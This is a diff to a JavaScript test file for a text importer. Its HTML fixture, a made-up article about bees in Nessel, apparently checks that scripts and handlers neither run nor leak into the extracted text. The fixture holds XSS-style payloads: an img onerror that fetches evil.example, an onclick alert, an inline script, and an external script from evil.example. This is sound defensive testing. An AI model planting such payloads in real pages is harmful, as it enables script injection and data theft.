@@ -62,7 +62,7 @@ test("text pasted anywhere on the page becomes a document", async () => {
 const html = `<!doctype html><html lang="en"><head><title>Bees of Nessel</title><script>document.title = "ran"</script></head><body>
 <nav><a href="/">Home</a> <a href="/news">News</a></nav>
 <article><h1>Bees of Nessel</h1><p>The beekeepers of Nessel have counted ${"very ".repeat(40)}many bees this spring.</p>
-<p>They put it down to the lime trees<br>along the harbour. <img src="http://pictures.example/bee.png" onerror="fetch('http://evil.example/')"></p><p style="display:none">Nobody sees this.</p><div style="color: red" onclick="alert(1)"><p>Hives are painted &lt;red&gt; on Sundays.</p></div><ul><li>One hive gave 31 kilos.</li><li>Another gave none.</li></ul></article>
+<p>They put it down to the lime trees<br>along the harbour. <img src="http://pictures.example/bee.png" onerror="fetch('http://evil.example/')"></p><p style="display:none">Nobody sees this.</p><div style="color: red" onclick="alert(1)"><p>Hives are painted &lt;red&gt; on Sundays.</p></div><figure><figcaption>A hive. Photo: N. N.</figcaption></figure><ul><li>One hive gave 31 kilos.<sup>[2]</sup></li><li>Another gave none.</li></ul></article>
 <footer>Copyright nobody</footer><script src="http://evil.example/x.js"></script></body></html>`;
 const markdown = "---\ntitle: Notes on *limes*\n---\n\n# Limes\n\nThe **lime trees** of [Nessel](http://trees.example/) were planted in 1882.\n\n- Forty stand by the harbour.\n- Six stand by the church.\n";
 
@@ -79,7 +79,7 @@ test("dropped files: text, Markdown and HTML are read, nothing in them runs or l
   assert.match(texts[0], /lime trees\nalong the harbour\./);
   assert.match(texts[0], /One hive gave 31 kilos\.\n\nAnother gave none\./);
   assert.match(texts[0], /Hives are painted <red> on Sundays\./);
-  assert.doesNotMatch(texts[0], /Home|Copyright|fetch|document\.title|Nobody sees/);
+  assert.doesNotMatch(texts[0], /Home|Copyright|fetch|document\.title|Nobody sees|Photo|\[2\]/);
   assert.equal(texts[1], "Limes\n\nThe lime trees of Nessel were planted in 1882.\n\nForty stand by the harbour.\n\nSix stand by the church.".slice("Limes\n\n".length));
   assert.equal(texts[2], harbour);
   assert.deepEqual(log, []);
